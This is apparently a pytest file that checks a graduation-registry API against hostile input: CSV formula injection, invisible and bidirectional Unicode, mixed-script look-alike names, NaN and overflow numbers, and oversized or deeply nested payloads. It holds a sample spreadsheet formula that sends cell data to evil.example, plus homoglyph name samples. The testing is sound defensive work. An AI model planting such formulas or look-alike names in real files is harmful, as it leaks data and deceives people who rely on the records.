"""Hostile input, tried through the API as an ordinary registrar or verifier would send it.

What comes out must be safe to open (no spreadsheet formula in a CSV the server writes), and
names must read as what is signed (no invisible or reordering characters, no look-alike
letters of another script).
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook

from .api_helpers import P, Tokens
from .registry_helpers import new_national_id, record

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _graduate(client: TestClient, tok: Tokens, **extra: object) -> dict[str, Any]:
    answer = client.post(
        "/api/v1/graduations",
        json=record(P.uni_a, 2, P.field_science, **extra),
        headers=tok.registrar_a,
    )
    assert answer.status_code in (200, 201), answer.text
    return dict(answer.json())


def _reasons(body: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {r["field"]: r for r in body["reasons"]}


def _csv_check(client: TestClient, tok: Tokens, upload: str) -> list[dict[str, str]]:
    answer = client.post(
        "/api/v1/verify/batch/csv",
        content=upload.encode(),
        headers={**tok.verifier, "Content-Type": "text/csv"},
    )
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_a_formula_typed_into_a_record_comes_back_as_text_in_the_csv(
    client: TestClient, tokens: Tokens
) -> None:
    nid = new_national_id()
    issued = _graduate(
        client,
        tokens,
        national_id=nid,
        first_name_latin=HYPERLINK,
        last_name_latin="Ahmadi",
        field_name="@SUM(1)",
    )
    assert issued["status"] == "ISSUED", issued
    # A line the uploader filled with a formula of its own is answered too.
    rows = _csv_check(
        client, tokens, f"code,national_id\r\n{issued['code']},{nid}\r\n-2+3,{nid}\r\n"
    )
    assert rows[0]["status"] == "VALID"
    assert rows[0]["holder_name_latin"] == "'" + HYPERLINK + " Ahmadi"
    assert rows[0]["field_name"] == "'@SUM(1)"
    assert rows[1]["status"] == "MALFORMED" and rows[1]["code"] == ""

    # Opened in a spreadsheet, every cell is text: none is a formula.
    sheet = Workbook().active
    assert sheet is not None
    for r, row in enumerate(rows, start=1):
        for c, text in enumerate(row.values(), start=1):
            cell = sheet.cell(row=r, column=c, value=text)
            assert cell.data_type != "f", f"{text!r} opens as a formula"
    # (The same cell unprefixed would have been one.)
    assert sheet.cell(row=9, column=1, value=HYPERLINK).data_type == "f"


@pytest.mark.parametrize(
    ("field", "value", "what"),
    [
        ("first_name", "زهرا\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("last_name", "احم\u200bدی", "U+200B ZERO WIDTH SPACE"),
        ("father_name", "\u200fعلی", "U+200F RIGHT-TO-LEFT MARK"),
        ("first_name_latin", "Zah\u200dra", "U+200D ZERO WIDTH JOINER"),
        ("last_name_latin", "\u2066Ahmadi\u2069", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("field_name", "فیزیک\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
    ],
)
def test_a_name_with_an_invisible_character_is_rejected_naming_it(
    client: TestClient, tokens: Tokens, field: str, value: str, what: str
) -> None:
    body = _graduate(client, tokens, **{field: value})
    assert body["status"] == "REJECTED" and body["code"] is None
    reason = _reasons(body)[field]
    assert what in reason["problem"] and "invisible" in reason["problem"]
    assert what in reason["problem_fa"] and "نامرئی" in reason["problem_fa"]


@pytest.mark.parametrize(
    ("field", "value", "script"),
    [
        ("first_name", "زهرа", "Cyrillic"),  # Cyrillic а at the end
        ("last_name", "احمدیo", "Latin"),
        ("first_name_latin", "Zаhra", "Cyrillic"),  # Cyrillic а
        ("last_name_latin", "Ahmαdi", "Greek"),
        ("first_name_latin", "Zahraی", "Persian/Arabic"),
    ],
)
def test_a_name_mixing_scripts_is_rejected_naming_the_field(
    client: TestClient, tokens: Tokens, field: str, value: str, script: str
) -> None:
    body = _graduate(client, tokens, **{field: value})
    assert body["status"] == "REJECTED" and body["code"] is None
    reason = _reasons(body)[field]
    assert "mixes scripts" in reason["problem"] and f"a {script} letter" in reason["problem"]
    assert "درآمیخته" in reason["problem_fa"]


def test_honest_names_still_issue_and_a_batch_rejects_only_the_bad_item(
    client: TestClient, tokens: Tokens
) -> None:
    good = record(P.uni_a, 2, P.field_science, first_name="زهرا\u200cسادات")
    good |= {"first_name_latin": "Zahra-Sādāt", "last_name_latin": "ʿAlavi"}
    bad = record(P.uni_a, 2, P.field_science, last_name_latin="Аhmadi")  # Cyrillic А
    answer = client.post(
        "/api/v1/graduations/batch", json={"items": [good, bad]}, headers=tokens.registrar_a
    )
    assert answer.status_code == 200, answer.text
    first, second = answer.json()["results"]
    assert first["status"] == "ISSUED", first
    assert second["status"] == "REJECTED" and "last_name_latin" in _reasons(second)


def test_a_correction_cannot_slip_in_a_look_alike_letter(
    client: TestClient, tokens: Tokens
) -> None:
    code = _graduate(client, tokens)["code"]
    answer = client.post(
        f"/api/v1/documents/{code}/corrections",
        json={"changes": {"last_name_latin": "Ahmаdi"}, "reason": "typo"},
        headers=tokens.registrar_a,
    )
    assert answer.status_code == 422
    problem = answer.json()["error"]["problems"][0]
    assert problem["field"] == "last_name_latin" and "Cyrillic" in problem["problem"]


def _post_json(client: TestClient, path: str, text: str, headers: dict[str, str]) -> Any:
    return client.post(path, content=text.encode(), headers={**headers, **JSON})


JSON = {"Content-Type": "application/json"}


@pytest.mark.parametrize("gpa", ['"NaN"', '"sNaN"', '"-sNaN"', '"Infinity"', '"-inf"', '"۱e۴۰۰"'])
def test_a_gpa_that_is_not_a_number_is_rejected_naming_it(
    client: TestClient, tokens: Tokens, gpa: str
) -> None:
    text = json.dumps(record(P.uni_a, 2, P.field_science)).replace('"17.25"', gpa)
    answer = _post_json(client, "/api/v1/graduations", text, tokens.registrar_a)
    assert answer.status_code == 201, answer.text
    body = answer.json()
    assert body["status"] == "REJECTED" and "gpa" in _reasons(body)


@pytest.mark.parametrize("number", ["NaN", "-Infinity", "Infinity", "1e400", "-1E+999"])
def test_json_numbers_that_are_not_numbers_are_422_naming_the_field(
    client: TestClient, tokens: Tokens, number: str
) -> None:
    good = json.dumps(record(P.uni_a, 2, P.field_science))
    bad = good.replace('"17.25"', number)
    one = _post_json(client, "/api/v1/graduations", bad, tokens.registrar_a)
    assert one.status_code == 422, one.text
    problem = one.json()["error"]["problems"][0]
    assert problem["field"] == "gpa" and number in problem["problem"]
    assert "NaN" in problem["problem_fa"]
    batch = _post_json(
        client, "/api/v1/graduations/batch", f'{{"items": [{good}, {bad}]}}', tokens.registrar_a
    )
    assert batch.status_code == 422
    assert batch.json()["error"]["problems"][0]["field"] == "items[1].gpa"
    course = bad.replace(f'"gpa": {number}', f'"courses": [{{"code": "1", "credits": {number}}}]')
    answer = _post_json(client, "/api/v1/graduations", course, tokens.registrar_a)
    assert answer.status_code == 422
    assert answer.json()["error"]["problems"][0]["field"] == "courses[0].credits"
    check = _post_json(
        client,
        "/api/v1/verify/batch",
        f'{{"items": [{{"code": {number}, "national_id": "0013542419"}}]}}',
        tokens.verifier,
    )
    assert check.status_code == 422 and "items[0].code" in check.text


def test_a_batch_with_a_nan_gpa_rejects_that_item_and_issues_the_rest(
    client: TestClient, tokens: Tokens
) -> None:
    items = [record(P.uni_a, 2, P.field_science, gpa=gpa) for gpa in ("NaN", "17", "sNaN")]
    answer = client.post(
        "/api/v1/graduations/batch", json={"items": items}, headers=tokens.registrar_a
    )
    assert answer.status_code == 200, answer.text
    assert [r["status"] for r in answer.json()["results"]] == ["REJECTED", "ISSUED", "REJECTED"]


def test_a_correction_to_a_number_that_is_not_one_is_refused(
    client: TestClient, tokens: Tokens
) -> None:
    code = _graduate(client, tokens)["code"]
    path = f"/api/v1/documents/{code}/corrections"
    for changes in ('{"gpa": "sNaN"}', '{"gpa": "Infinity"}', '{"gpa": NaN}'):
        answer = _post_json(
            client, path, f'{{"changes": {changes}, "reason": "typo"}}', tokens.registrar_a
        )
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"]["problems"][0]["field"] in ("gpa", "changes.gpa")
    # Nothing was changed or signed.
    document = client.get(f"/api/v1/documents/{code}", headers=tokens.registrar_a).json()
    assert document["version"] == 1


def _csv_upload(client: TestClient, tok: Tokens, upload: bytes) -> Any:
    return client.post(
        "/api/v1/verify/batch/csv",
        content=upload,
        headers={**tok.verifier, "Content-Type": "text/csv"},
    )


def test_an_oversized_csv_field_is_422_naming_its_line(client: TestClient, tokens: Tokens) -> None:
    huge = b"code,national_id,note\r\n1000,0013542419,a\r\n1000,0013542419," + b"x" * 200_000
    answer = _csv_upload(client, tokens, huge + b"\r\n")
    assert answer.status_code == 422, answer.text
    error = answer.json()["error"]
    assert error["problems"][0]["field"] == "line 3"
    assert "128 KB" in error["message"] and "line 3" in error["message"]
    assert "۱۲۸" in error["message_fa"]
    # A quote left open runs to the end of the file: the line where it starts is named.
    open_quote = b'code,national_id\r\n1000,0013542419\r\n"1000,' + b"y\r\n" * 70_000
    answer = _csv_upload(client, tokens, open_quote)
    assert answer.status_code == 422 and answer.json()["error"]["problems"][0]["field"]
    # Numbers that are not numbers are answered line by line.
    rows = _csv_check(client, tokens, "code,national_id\r\nNaN,Infinity\r\nsNaN,1e400\r\n")
    assert [r["status"] for r in rows] == ["MALFORMED", "MALFORMED"]


def test_deeply_nested_json_with_a_nul_is_400_not_a_5xx(client: TestClient, tokens: Tokens) -> None:
    answer = _post_json(
        client, "/api/v1/verify/batch", "[" * 100_000 + '"\\u0000"', tokens.verifier
    )
    assert answer.status_code == 400
